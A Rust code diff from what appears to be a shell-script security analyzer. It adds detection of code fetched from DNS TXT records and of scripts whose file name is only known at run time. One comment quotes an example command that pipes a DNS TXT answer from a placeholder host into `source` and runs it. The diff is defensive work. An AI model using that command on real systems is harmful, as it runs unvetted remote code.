@@ -567,7 +567,13 @@ pub(crate) fn run(a: &mut Analyzer, name: &str, inv: &Inv, st: &mut State) -> St
     if let Some(out) = tools::run(a, name, inv, st) {
         return out;
     }
-    generic(a, name, inv)
+    let mut out = generic(a, name, inv);
+    if let Some(q) = exfil::dns_answer_source(name, inv) {
+        // A DNS answer is text whoever runs the zone wrote (a TXT record most of all): run as
+        // code (`source /dev/fd/0 <<< "$(dig +short TXT x.example)"`), it is fetched code.
+        out.taint.fetched = Some(q);
+    }
+    out
 }
 
 /// A program run by path (`./install.sh`, `/tmp/x`): an `exec` path fact, and the file's content
@@ -667,8 +673,29 @@ pub(crate) fn exec_script_operand(
             Some(src.clone()),
             &inv.evidence,
         );
+    } else if file.dynamic && script_name_unknown(&file.text) {
+        // `source "$1"`, `. "$SCRIPT_FILE"`, `bash "$X"`: which file runs is itself only
+        // known at run time, so nothing can read it first (issue 11 item 2). A known file
+        // name in a folder known at run time (`. "$NVM_DIR/nvm.sh"`, `source
+        // "$(dirname "$0")/lib.sh"`) names its script and is not this.
+        let origin = if file.from_subst {
+            "substitution"
+        } else if file.from_var {
+            "variable"
+        } else {
+            "unknown"
+        };
+        a.dynamic_code(name, origin, Some(ev), &inv.wrappers, &inv.evidence);
     }
     Stream::default()
+}
+
+/// True when the file name (the last `/` component) of a script operand's text is only known
+/// at run time: empty, or holding an expansion kept as written (`$1`, `${F}`, `$(…)`, a
+/// backquote).
+fn script_name_unknown(text: &str) -> bool {
+    let name = text.rsplit('/').next().unwrap_or(text);
+    name.is_empty() || name.contains(['$', '`'])
 }
 
 /// Code that `interpreter` executes, given as a stream (stdin, a process substitution, a file
